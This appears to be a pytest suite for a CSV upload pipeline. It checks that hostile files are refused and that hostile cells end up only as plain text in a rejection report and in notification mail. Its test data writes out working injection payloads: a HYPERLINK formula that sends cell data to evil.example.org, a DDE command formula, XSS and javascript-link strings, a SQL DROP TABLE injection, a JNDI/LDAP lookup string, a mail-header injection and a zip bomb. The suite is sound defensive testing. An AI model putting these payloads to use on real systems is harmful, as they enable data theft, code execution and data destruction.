"""Hostile files: their content reaches only a cell of a report."""

import csv
import io
import zipfile

import pandas as pd
import pytest
from installations import ANN, HEADER, HIGH

from cvms_pipeline.domain.text import formulas

MARKS = {
    "formula": '=HYPERLINK("http://evil.example.org?x="&A1,"x")',
    "formula of an old kind": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula behind a carriage return": "\r=1+1",
    "formula that is escaped": "'=1+1",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "HTML in an attribute": "\"><svg onload=alert(1)>'",
    "Markdown": "[click](javascript:alert(1)) ![x](http://evil.example.org/x.png)",
    "Markdown table": "| a | b |\n|---|---|\n# big",
    "SQL": "'); DROP TABLE cvms.recipients; --",
    "SQL in an array": '{"a","b"},NULL,\\N',
    "end of COPY": "\\.",
    "format": "{0.__class__} %(x)s %s :name ${jndi:ldap://evil.example.org/a}",
    "mail header": "x\r\nBcc: all@evil.example.org\r\n\r\nbody",
}


def quoted(*cells):
    return ",".join('"' + cell.replace('"', '""') + '"' for cell in cells)


def zipped(size):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", b"\0" * size)
    return file.getvalue()


REFUSED = {
    "a spreadsheet called .csv": (zipped(100), "file-not-csv"),
    "a bomb: 200 kB that unpack to 200 MB": (zipped(200_000_000), "file-not-csv"),
    "an old spreadsheet": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 100, "file-not-csv"),
    "a NUL": (HEADER.encode() + b"\nAnn,\0Lee,1/2/1990,a@b.org", "file-not-csv"),
    "only NUL": (b"\0" * 1_000_000, "file-not-csv"),
    "UTF-16, half of a surrogate pair": (b"\xff\xfe\x00\xd8", "file-not-csv"),
    "the beginning of UTF-32": (b"\xff\xfe\x00\x00", "file-not-csv"),
    "a million columns": (b"x," * 1_000_000, "header-missing"),
    "one line of 10 MB": (b"x" * 9_999_999, "header-missing"),
    "a million quotation marks": (b'"' * 1_000_000, "header-missing"),
    "a byte order mark": (b"\xef\xbb\xbf", "file-empty"),
    "three of them": (b"\xef\xbb\xbf" * 3, "file-empty"),
}
ODD_BYTES = [
    b"\xc0\xaf\xe0\x80\xaf",  # an overlong slash
    b"\xc1\x81nn",  # an overlong A
    b"\xed\xa0\xbd\xed\xb8\x80",  # a pair of surrogates, each encoded
    b"\xf5\x80\x80\x80",  # beyond Unicode
]


@pytest.mark.parametrize(("data", "code"), REFUSED.values(), ids=REFUSED)
def test_an_unreadable_file_is_refused_and_the_provider_is_notified(site, data, code):
    upload_id = site.bring(data)

    ended = site.upload(upload_id)
    (notice,) = site.mail()
    assert ended.refusal.code == code
    assert len(ended.refusal.message) < 1_000
    assert len(notice.as_bytes()) < 20_000


@pytest.mark.parametrize("odd", ODD_BYTES)
def test_bytes_that_are_not_text_load_no_recipient(site, odd):
    data = f"{HEADER}\n".encode() + odd + b",Lee,1/2/1990,a@b.example.org\n"

    upload_id = site.bring(data)

    ended = site.upload(upload_id)
    assert ended.refusal is not None or (ended.loaded, ended.rejected) == (0, 1)


@pytest.mark.parametrize("mark", MARKS)
def test_hostile_cells_appear_only_in_the_report(site, mark):
    cells = [MARKS[mark]] * 4
    before = tables(site)

    upload_id = site.bring([ANN, quoted(*cells)], file_name="staff.csv")

    ended = site.upload(upload_id)
    (row,) = reported(site)[1:]
    assert (ended.loaded, ended.rejected) == (1, 1)
    assert tables(site) == before
    read = formulas.unescape(pd.Series(cells, dtype=str)).tolist()
    assert formulas.unescape(pd.Series(row[:4], dtype=str)).tolist() == read
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize("mark", MARKS)
def test_hostile_header_cells_appear_as_plain_text_in_the_messages(site, mark):
    header = f"{HEADER},{quoted(MARKS[mark])}"

    site.bring(f"{header}\n{ANN},x\n".encode())

    (notice, *_) = [m for m in site.mail() if m["To"] == "staff@mercy.example.org"]
    page = notice.get_body(("html",)).get_content()
    text = notice.get_body(("plain",)).get_content()
    assert "1 column was ignored" in text.replace("\n", " ")
    assert "<script" not in page
    assert "<svg" not in page
    assert "<img" not in page
    assert 'href="javascript' not in page
    assert "\r" not in text


@pytest.mark.parametrize("mark", MARKS)
def test_a_report_that_is_dropped_again_has_the_original_values(site, mark):
    cells = [MARKS[mark]] * 4
    site.bring([quoted(*cells)])
    data = report_of(site)

    again = site.bring(data, file_name="again.csv")

    both = site.table(
        "SELECT first_name, last_name, birth_date, email, codes"
        " FROM cvms.rejected_rows ORDER BY upload_id"
    )
    assert site.upload(again).rejected == 1
    assert both.iloc[0].astype(str).tolist() == both.iloc[1].astype(str).tolist()


def test_very_large_rows_are_stored_and_read_back(site):
    row = quoted("x" * 300_000, "ł" * 300_000, "1/" * 200_000, "a." * 200_000 + "@b.c")

    upload_id = site.bring([row] * 5, lane=HIGH)

    rows = reported(site)[1:]
    assert site.upload(upload_id).rejected == 5
    assert max(len(cell) for row in rows for cell in row[:4]) <= 32_767
    assert max(len(row[4]) for row in rows) < 2_000


def tables(site):
    query = "SELECT table_name FROM information_schema.tables WHERE table_schema='cvms'"
    return sorted(site.column(query))


def report_of(site):
    root = site.pipeline.folders.root / "mercy" / "results"
    (path,) = root.glob("*/BulkError.csv")
    return path.read_bytes()


def reported(site):
    text = report_of(site).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))
